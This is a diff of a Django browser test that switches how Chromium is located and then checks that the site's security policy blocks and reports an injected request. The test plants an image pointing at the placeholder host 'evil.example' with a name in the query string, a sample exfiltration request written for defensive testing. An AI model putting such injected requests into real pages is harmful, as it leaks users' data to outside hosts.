@@ -11,7 +11,7 @@ from django.db import connections
 from playwright.sync_api import sync_playwright
 
 from portal.upkeep.models import PolicyReport
-from tests.browser.conftest import FLAGS, PROGRAMS
+from tests.browser.conftest import CHROMIUM, FLAGS, installed
 from tests.serving.conftest import ROOT
 from tests.test_headers import EXPECTED
 
@@ -77,9 +77,8 @@ def test_cookies_are_bound_to_the_host(served):
 def test_browser_reports_what_the_policy_kept_out(served, monkeypatch):
     monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "1")
     with sync_playwright() as playwright:
-        program = next(filter(None, map(shutil.which, PROGRAMS)), None)
         flags = [*FLAGS, "--short-reporting-delay", "--ignore-certificate-errors"]
-        browser = playwright.chromium.launch(executable_path=program, args=flags)
+        browser = playwright.chromium.launch(executable_path=installed(*CHROMIUM), args=flags)
         page = browser.new_page(base_url=served.address, ignore_https_errors=True)
         page.goto("/")
         page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?name=Sam'}))")
